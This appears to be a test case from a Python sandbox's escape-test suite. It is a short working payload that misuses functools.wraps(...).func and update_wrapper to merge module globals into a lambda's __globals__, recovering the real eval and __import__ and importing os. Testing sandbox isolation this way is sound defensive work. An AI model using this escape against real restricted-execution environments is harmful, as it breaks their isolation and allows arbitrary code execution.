# technique: the checked functools.wraps returned functools.partial(update_wrapper, ...) whose .func is the unchecked update_wrapper: updated=('__globals__',) merges _sitebuiltins' module globals into a lambda's __globals__ (the task's own scope), so functions made afterwards find the real builtins
# configs: default, common
# With nothing allowed `import functools` is refused.
import functools
u = '_' * 2
functools.wraps(len).func(lambda: 0, exit.__init__, (), (u + 'globals' + u,))
real_eval = (lambda: eval)()
real_import = (lambda: __import__)()
return [{'json': {'escaped': [real_eval('6 * 7'), real_import('os').getpid()]}}]
